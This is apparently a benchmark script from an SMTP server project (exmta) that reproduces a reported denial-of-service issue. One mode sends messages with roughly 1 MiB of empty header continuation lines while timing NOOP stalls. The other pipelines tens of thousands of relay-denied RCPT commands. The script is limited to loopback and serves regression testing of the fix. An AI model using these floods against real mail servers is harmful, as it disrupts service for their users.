#!/usr/bin/env python3
"""Issue 11 attack figures against a running exmta (self-contained, stdlib only).

    benchmarks/abuse.py headers 127.0.0.1:2525 [--messages 3]
    benchmarks/abuse.py rcpts 127.0.0.1:2525 [--count 50000]

``headers``: one session sends messages whose header block is 349k empty
continuation lines (1 MiB); meanwhile another session sends NOOP every
50 ms. Prints the replies to the messages and the longest NOOP wait (the
time the reactor was stalled).

``rcpts``: one session sends up to ``--count`` relay-denied RCPTs,
pipelined 1,000 at a time (run it from an address outside relay_networks).
Prints how many were answered before the server closed and the time taken.

Every loop is bounded by a count and ``--timeout``. Loopback only.
"""
from __future__ import annotations

import argparse
import socket
import threading
import time


def reply(f) -> tuple[int, str]:  # noqa: ANN001
    lines = []
    while True:
        line = f.readline()
        if not line:
            return 0, "closed"
        lines.append(line.decode("ascii", "replace").rstrip())
        if line[3:4] != b"-":
            return int(line[:3]), lines[-1]


def session(host: str, port: int, timeout: float) -> tuple[socket.socket, object]:
    s = socket.create_connection((host, port), timeout=timeout)
    f = s.makefile("rb")
    reply(f)
    s.sendall(b"EHLO bench.example\r\n")
    reply(f)
    return s, f


def headers(host: str, port: int, messages: int, timeout: float) -> None:
    flood = b"Subject: x\r\n" + b" \r\n" * 349_000 + b"\r\nbody\r\n.\r\n"
    stop = threading.Event()
    waits: list[float] = []

    def probe() -> None:
        s, f = session(host, port, timeout)
        while not stop.is_set():
            t = time.monotonic()
            s.sendall(b"NOOP\r\n")
            reply(f)
            waits.append(time.monotonic() - t)
            time.sleep(0.05)
        s.close()

    th = threading.Thread(target=probe)
    th.start()
    s, f = session(host, port, timeout)
    results = []
    t0 = time.monotonic()
    for _ in range(messages):
        s.sendall(b"MAIL FROM:<x@example.net>\r\nRCPT TO:<postmaster>\r\nDATA\r\n")
        reply(f), reply(f), reply(f)
        s.sendall(flood)
        results.append(reply(f)[1])
    total = time.monotonic() - t0
    stop.set()
    th.join(timeout)
    s.close()
    print(f"replies: {results}")
    print(f"messages={messages} seconds={total:.2f} max_noop_wait={max(waits or [0]):.2f}s noops={len(waits)}")


def rcpts(host: str, port: int, count: int, timeout: float) -> None:
    s, f = session(host, port, timeout)
    s.sendall(b"MAIL FROM:<x@example.net>\r\n")
    reply(f)
    answered = 0
    last = ""
    t0 = time.monotonic()
    try:
        for batch in range(count // 1000):
            s.sendall(b"".join(b"RCPT TO:<u%d@victim.example>\r\n" % (batch * 1000 + i) for i in range(1000)))
            for _ in range(1000):
                code, last = reply(f)
                if code == 0:
                    raise ConnectionError
                answered += 1
                if code == 421:
                    raise ConnectionError
    except OSError:
        pass
    print(f"answered={answered} seconds={time.monotonic() - t0:.2f} last={last!r}")


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("what", choices=("headers", "rcpts"))
    ap.add_argument("server")
    ap.add_argument("--messages", type=int, default=3)
    ap.add_argument("--count", type=int, default=50_000)
    ap.add_argument("--timeout", type=float, default=60.0)
    a = ap.parse_args()
    host, port = a.server.rsplit(":", 1)
    if a.what == "headers":
        headers(host, int(port), a.messages, a.timeout)
    else:
        rcpts(host, int(port), a.count, a.timeout)


if __name__ == "__main__":
    main()
